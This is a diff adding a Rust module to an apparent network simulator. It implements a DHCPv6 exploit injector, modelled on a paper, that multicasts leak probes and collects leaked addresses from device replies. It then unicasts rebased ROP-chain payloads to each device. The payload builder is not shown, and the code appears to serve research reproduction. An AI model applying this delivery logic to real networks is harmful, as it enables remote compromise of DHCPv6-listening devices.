@@ -1,0 +1,144 @@
+//! The DHCPv6 injector exploiting Dnsmasq-like Devs.
+//!
+//! As in the paper, exploit delivery rides DHCPv6 RELAY-FORW messages sent
+//! to the `ff02::1:2` multicast group ("there is no broadcast address in
+//! IPv6", §IV-A). Under leak+rebase the exchange is:
+//!
+//! 1. Periodic multicast RELAY-FORW carrying a leak-probe option.
+//! 2. Each listening Dev answers with a unicast ADVERTISE carrying the
+//!    leaked address.
+//! 3. The injector unicasts a per-device RELAY-FORW whose relay-message
+//!    option holds the rebased ROP chain.
+
+use crate::exploit::ExploitForge;
+use firmware::{OPTION_LEAK_PROBE, OPTION_LEAK_VALUE};
+use netsim::packet::all_dhcp_agents_v6;
+use netsim::{Application, Ctx, Packet, Payload};
+use protocols::{
+    Dhcpv6Kind, Dhcpv6Message, Dhcpv6Option, DHCPV6_CLIENT_PORT, DHCPV6_SERVER_PORT,
+    OPTION_RELAY_MSG,
+};
+use std::collections::HashSet;
+use std::net::{IpAddr, SocketAddr};
+use std::time::Duration;
+
+const TIMER_PROBE: u64 = 1;
+
+/// The periodic DHCPv6 exploit injector ("a DHCP Python script runs and
+/// periodically sends malformed DHCPv6 messages", §IV-A).
+#[derive(Debug)]
+pub struct Dhcpv6Injector {
+    forge: ExploitForge,
+    probe_interval: Duration,
+    next_transaction: u32,
+    exploited: HashSet<IpAddr>,
+    /// Multicast probes sent.
+    pub probes_sent: u64,
+    /// Leak replies received.
+    pub leaks_received: u64,
+    /// Exploit payloads sent.
+    pub exploits_sent: u64,
+}
+
+impl Dhcpv6Injector {
+    /// Creates the injector; probes are multicast every `probe_interval`.
+    pub fn new(forge: ExploitForge, probe_interval: Duration) -> Self {
+        Dhcpv6Injector {
+            forge,
+            probe_interval,
+            next_transaction: 1,
+            exploited: HashSet::new(),
+            probes_sent: 0,
+            leaks_received: 0,
+            exploits_sent: 0,
+        }
+    }
+
+    /// Clears the exploited mark for `ip` (operator retry; see
+    /// [`MaliciousDnsServer::forget`](crate::MaliciousDnsServer::forget)).
+    pub fn forget(&mut self, ip: IpAddr) {
+        self.exploited.remove(&ip);
+    }
+
+    /// Devices currently marked as exploited.
+    pub fn exploited_count(&self) -> usize {
+        self.exploited.len()
+    }
+
+    fn send(&mut self, ctx: &mut Ctx<'_>, to: SocketAddr, msg: Dhcpv6Message) {
+        let bytes = msg.wire_size();
+        let _ = ctx.udp_send(DHCPV6_CLIENT_PORT, to, Payload::new(msg), bytes);
+    }
+
+    fn multicast_probe(&mut self, ctx: &mut Ctx<'_>) {
+        let tid = self.next_transaction;
+        self.next_transaction += 1;
+        let msg = if self.forge.needs_leak() {
+            Dhcpv6Message::new(Dhcpv6Kind::RelayForw, tid)
+                .with_option(Dhcpv6Option::new(OPTION_LEAK_PROBE, Vec::new()))
+        } else {
+            // One-shot strategies: multicast the static exploit itself.
+            match self.forge.initial_payload() {
+                Ok(payload) => {
+                    self.exploits_sent += 1;
+                    Dhcpv6Message::new(Dhcpv6Kind::RelayForw, tid)
+                        .with_option(Dhcpv6Option::new(OPTION_RELAY_MSG, payload))
+                }
+                Err(_) => return,
+            }
+        };
+        self.probes_sent += 1;
+        let group = SocketAddr::new(all_dhcp_agents_v6(), DHCPV6_SERVER_PORT);
+        self.send(ctx, group, msg);
+    }
+}
+
+impl Application for Dhcpv6Injector {
+    fn name(&self) -> &str {
+        "dhcp6-injector"
+    }
+
+    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
+        ctx.udp_bind(DHCPV6_CLIENT_PORT)
+            .expect("DHCPv6 client port is free on the attacker node");
+        ctx.set_timer(Duration::from_millis(500), TIMER_PROBE);
+    }
+
+    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
+        if token != TIMER_PROBE {
+            return;
+        }
+        self.multicast_probe(ctx);
+        ctx.set_timer(self.probe_interval, TIMER_PROBE);
+    }
+
+    fn on_packet(&mut self, ctx: &mut Ctx<'_>, packet: &Packet) {
+        let Some(msg) = packet.payload.get::<Dhcpv6Message>() else {
+            return;
+        };
+        if msg.kind != Dhcpv6Kind::Advertise {
+            return;
+        }
+        let Some(leak) = msg.option(OPTION_LEAK_VALUE) else {
+            return;
+        };
+        let Ok(addr_bytes) = <[u8; 8]>::try_from(leak.data.as_slice()) else {
+            return;
+        };
+        self.leaks_received += 1;
+        let src = packet.src;
+        if self.exploited.contains(&src.ip()) {
+            return;
+        }
+        let leaked = u64::from_le_bytes(addr_bytes);
+        let tid = self.next_transaction;
+        self.next_transaction += 1;
+        if let Ok(payload) = self.forge.rebased_payload(leaked) {
+            self.exploits_sent += 1;
+            self.exploited.insert(src.ip());
+            let exploit = Dhcpv6Message::new(Dhcpv6Kind::RelayForw, tid)
+                .with_option(Dhcpv6Option::new(OPTION_RELAY_MSG, payload));
+            self.send(ctx, SocketAddr::new(src.ip(), DHCPV6_SERVER_PORT), exploit);
+        }
+    }
+}
